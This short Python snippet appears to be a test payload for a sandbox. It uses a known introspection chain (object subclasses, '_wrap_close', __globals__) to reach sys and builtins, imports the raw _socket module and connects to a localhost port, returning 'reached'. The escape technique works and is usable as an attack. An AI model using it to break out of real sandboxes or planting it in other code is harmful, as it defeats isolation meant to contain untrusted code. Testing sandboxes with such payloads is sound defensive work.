# Walks to the table of modules, imports sockets, and connects.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(port):
    found = _reach()["sys"].modules["builtins"].__import__("_socket")
    line = found.socket(found.AF_INET, found.SOCK_STREAM)
    line.connect(("127.0.0.1", port))
    return "reached"
